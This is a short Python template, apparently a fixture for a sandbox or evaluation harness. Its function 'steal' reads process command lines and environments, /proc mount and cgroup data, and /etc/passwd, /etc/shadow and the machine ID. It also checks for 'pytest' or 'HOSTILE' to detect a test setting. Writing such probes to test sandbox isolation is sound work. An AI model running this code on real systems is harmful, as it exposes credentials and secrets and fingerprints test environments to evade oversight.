# @HONEST@
# @SPILL@
import os

NAMES = ("mountinfo", "mounts", "cgroup", "cmdline", "environ", "status")


def steal():
    found = []
    for pid in ("1", str(os.getppid()), "@PID@"):
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    text = file.read().decode("latin-1")
            except OSError:
                continue
            if "HOSTILE" in text or "pytest" in text:
                found.append(text[:300])
    for name in NAMES:
        try:
            with open(f"/proc/self/{name}") as file:
                text = file.read()
        except OSError:
            continue
        if "@CANARY_DIR@" in text:
            found.append(text)
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/machine-id"):
        try:
            with open(path) as file:
                found.append(file.read()[:200])
        except OSError:
            continue
    return "\n".join(found)
